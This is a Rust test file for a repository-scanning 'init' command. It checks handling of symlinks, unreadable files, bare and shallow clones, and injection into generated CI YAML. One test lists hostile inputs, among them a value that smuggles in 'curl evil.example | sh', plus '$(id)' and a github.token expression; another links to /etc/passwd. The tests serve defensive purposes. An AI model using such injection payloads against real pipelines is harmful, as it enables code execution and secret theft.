//! Repositories that nobody would make by accident.

use std::fs;
use std::os::unix::fs::symlink;
use std::process::Command;
use std::time::{Duration, Instant};

use super::toys::{CONFIG, PIN, WORKFLOW, files, init, repository};
use crate::repo::Repo;

#[test]
fn what_cannot_be_read_is_named_and_the_rest_is_used() {
    let repo = repository("fly");
    repo.gate.write("vercel.json", "{}");
    let path = repo.root().join("fly.toml");
    let cases: [(&str, &dyn Fn()); 5] = [
        ("is larger than", &|| fs::write(&path, vec![b'a'; 300 << 10]).unwrap()),
        ("is not UTF-8 text", &|| {
            fs::write(&path, b"app = \"\xff\xfe\"\n").unwrap();
        }),
        ("is a symbolic link", &|| symlink("/etc/passwd", &path).unwrap()),
        ("", &|| fs::create_dir(&path).unwrap()),
        ("", &|| {
            let made = Command::new("mkfifo").arg(&path).status().unwrap();
            assert!(made.success());
        }),
    ];
    for (says, make) in cases {
        let _ = fs::remove_file(&path);
        make();
        let begun = Instant::now();
        let ran = init(&repo, "", &["--diff"]);
        ran.code(0).says(says).never_says("root:").never_says("app shop");
        assert!(begun.elapsed() < Duration::from_secs(20), "{}", ran.explain());
        let _ = fs::remove_dir(&path);
    }
}

/// What is in a repository ends up in YAML, in expressions and in shells, so a name that is more than one is not used.
#[test]
fn nothing_that_could_be_more_than_a_name_is_written() {
    const EVIL: [&str; 6] = [
        "x\"; curl evil.example | sh; \"",
        "${{ github.token }}",
        "$(id)",
        "a' b",
        "a: [",
        "\u{202e}x",
    ];
    for evil in EVIL {
        let repo = Repo::empty();
        let folder = evil.replace('/', "-");
        repo.gate
            .write("fly.toml", format!("app = '{evil}'\n[[checks]]\npath = '/{evil}'\n"))
            .write("Dockerfile", format!("FROM x\nHEALTHCHECK CMD curl http://localhost/{evil}\n"))
            .write(&format!("{folder}/fly.toml"), "app = 'shop'\n")
            .write(
                ".github/workflows/a.yml",
                format!("jobs:\n  a:\n    environment: staging {evil}\n    steps: [{{run: 'x ${{{{ secrets.{evil} }}}}'}}]\n"),
            );
        repo.commit("x", "one");
        repo.git(&["tag", "v1"]);
        repo.commit("x", "two");
        init(&repo, "", &[]).code(0);
        let written = [repo.gate.read(CONFIG), repo.gate.read(WORKFLOW)].concat();
        for part in ["evil", "github.token", "$(id)", "a' b", "a: [", "\u{202e}"] {
            assert!(!written.contains(part), "{part}: {written}");
        }
        assert!(
            written.contains("environment: staging") || !written.contains("environment: x"),
            "{written}"
        );
    }
}

/// Following a link would write, or read, what is not in the repository.
#[test]
fn nothing_is_written_through_a_link() {
    for link in [".github", ".github/workflows", CONFIG, WORKFLOW] {
        let repo = repository("dockerfile");
        let outside = repo.outside("elsewhere");
        fs::create_dir_all(&outside).unwrap();
        symlink(&outside, repo.gate.path(link)).unwrap();
        for flags in [&[][..], &["--force"]] {
            init(&repo, "", flags).code(1).says("is a symbolic link");
        }
        assert_eq!(fs::read_dir(&outside).unwrap().count(), 0, "{link}");
        let others = [CONFIG, WORKFLOW].map(|path| repo.root().join(path));
        assert!(others.iter().all(|path| !path.is_file()), "{link}: both, or none");
    }
}

#[test]
fn a_folder_without_git_or_without_a_commit_is_enough() {
    let repo = Repo::none();
    repo.gate.write("Procfile", "web: x\n");
    init(&repo, "", &[]).code(0).says("is not in a git repository");
    assert!(repo.gate.read(CONFIG).contains("ref: HEAD~1"));
    let repo = Repo::empty();
    init(&repo, "", &[]).code(0).says("the default branch is main");
    // A .git that is none.
    let repo = Repo::none();
    repo.gate.write(".git", "gitdir: /nowhere\n");
    init(&repo, "", &[]).code(0).says("cannot be opened as a repository");
}

#[test]
fn a_crowded_repository_is_read_only_so_far() {
    let repo = repository("fly");
    for folder in 0..21 {
        for file in 0..1000 {
            repo.gate.write(&format!("data/{folder}/{file}"), "");
        }
    }
    let begun = Instant::now();
    init(&repo, "", &["--diff"])
        .code(0)
        .says("names the app shop")
        .says("only the first 20000 files");
    assert!(begun.elapsed() < Duration::from_secs(20), "{:?}", begun.elapsed());
}

/// Each of them belongs to an app, and none may make it slow.
#[test]
fn thousands_of_apps_and_many_megabytes_are_read_only_so_far() {
    let repo = Repo::none();
    for number in 0..2000 {
        repo.gate.write(&format!("apps/{number}/fly.toml"), "app = 'x'\n");
    }
    let long = format!("kind: Deployment\n{}", "#".repeat(200 << 10));
    for number in 0..100 {
        repo.gate.write(&format!("apps/0/k8s/{number}.yaml"), &long);
        repo.gate.write(&format!("{number}/k8s/{number}.yaml"), &long);
    }
    let begun = Instant::now();
    init(&repo, "", &["--diff"])
        .code(0)
        .says("The app is ")
        .says("is left out");
    assert!(begun.elapsed() < Duration::from_secs(20), "{:?}", begun.elapsed());
}

#[test]
fn a_workflow_that_is_no_yaml_is_read_as_far_as_it_goes() {
    let repo = repository("fly");
    repo.gate
        .write(".github/workflows/odd.yml", "jobs: [\n\t{{{ ${{ secrets.FLY_TOKEN }}\n");
    repo.gate.write(".github/workflows/odd2.yml", [0xff, 0xfe, 0]);
    init(&repo, "", &[])
        .code(0)
        .says("FLY_TOKEN, which .github/workflows/odd.yml uses")
        .says(".github/workflows/odd2.yml is left out");
}

#[test]
fn a_file_that_cannot_be_parsed_is_named() {
    let repo = repository("helm");
    repo.gate
        .write("package.json", "{\"name\": ")
        .write("charts/shop/Chart.yaml", "name: shop\nversion: [\n")
        .write(".github/workflows/odd.yml", "jobs: {a: [\n");
    let ran = init(&repo, "", &["--diff"]);
    for path in ["package.json", "charts/shop/Chart.yaml", ".github/workflows/odd.yml"] {
        ran.code(0).says(&format!("warning: {path} cannot be parsed"));
    }
    let repo = repository("fly");
    repo.gate.write("fly.toml", "app = shop\n");
    init(&repo, "", &["--diff"])
        .code(0)
        .says("no name of an app could be read");
}

#[test]
fn a_shallow_clone_is_told_from_one_without_releases() {
    let repo = repository("heroku");
    let clone = repo.outside("clone");
    let from = format!("file://{}", repo.root().display());
    repo.git(&[
        "clone",
        "--quiet",
        "--depth=1",
        "--no-tags",
        &from,
        clone.to_str().unwrap(),
    ]);
    let ran = repo.gate.run_in(clone.to_str().unwrap(), ["init", PIN, "--diff"]);
    ran.code(0)
        .says("this is a shallow clone")
        .never_says("no tag marks a release");
}

/// Its `.github` would be one of git's own folders.
#[test]
fn nothing_is_written_into_a_bare_repository() {
    let repo = repository("heroku");
    let bare = repo.outside("bare.git");
    repo.git(&[
        "clone",
        "--quiet",
        "--bare",
        repo.root().to_str().unwrap(),
        bare.to_str().unwrap(),
    ]);
    let ran = repo.gate.run_in(bare.to_str().unwrap(), ["init", PIN]);
    ran.code(1).says("is a bare repository");
    assert!(!bare.join(".github").exists());
}

#[test]
fn what_is_misunderstood_is_a_usage_error() {
    let repo = repository("fly");
    let before = files(&repo);
    for (flags, says) in [
        (&["--pin=main"][..], "is not a commit"),
        (&["--pin=0123456"], "40 hexadecimal digits"),
        (&[PIN, "--config=x.yml"], "does not read a configuration"),
    ] {
        repo.gate.run([&["init"], flags].concat()).code(2).says(says);
    }
    assert_eq!(files(&repo), before);
    let action = repository("fly")
        .gate
        .on_runner("push", "{}")
        .env("INPUT_COMMAND", "init");
    action.run([] as [&str; 0]).code(2).says("run it on your machine");
}
